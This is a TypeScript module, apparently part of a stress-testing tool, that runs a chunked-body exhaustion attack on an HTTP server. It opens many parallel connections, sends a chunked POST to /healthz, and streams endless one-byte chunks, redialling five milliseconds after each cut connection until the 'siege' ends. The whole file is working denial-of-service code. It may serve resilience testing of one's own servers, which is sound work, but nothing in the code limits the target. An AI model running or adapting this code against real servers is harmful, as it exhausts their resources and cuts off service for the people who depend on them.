/** Requests with bodies in the smallest chunks, without end: each chunk may cost the server a call. */
import type { Socket } from 'node:net';
import { type Ground, inParallel, type Siege, Strangers } from './ground';

/** Chunks of one byte (RFC 9112, section 7.1), as many as are sent at once. */
const CHUNKS = Buffer.from('1\r\nx\r\n'.repeat(2_000));
/** Milliseconds until a connection that was cut is there again. */
const COME_BACK = 5;

export interface Bodies {
  /** Connections, of which most were cut. */
  readonly dialled: number;
}

export async function bodies(ground: Ground, siege: Siege, connections: number): Promise<Bodies> {
  const headers = { Host: ground.host, 'Transfer-Encoding': 'chunked', ...ground.headers };
  const lines = Object.entries(headers).map(([name, value]) => `${name}: ${value}\r\n`);
  const head = `POST /healthz HTTP/1.1\r\n${lines.join('')}\r\n`;
  const strangers = new Strangers(ground, siege);
  await inParallel(connections, async () => {
    while (!siege.over) {
      const socket = strangers.dial().resume();
      socket.write(head);
      while (!siege.over && (await taken(socket)));
      socket.destroy();
      await siege.pause(COME_BACK);
    }
  });
  return { dialled: strangers.dialled };
}

/** Whether the system has taken some more chunks; it has not where the connection is over. */
function taken(socket: Socket): Promise<boolean> {
  return new Promise((resolve) => {
    socket.write(CHUNKS, (error) => resolve(error === undefined || error === null));
  });
}
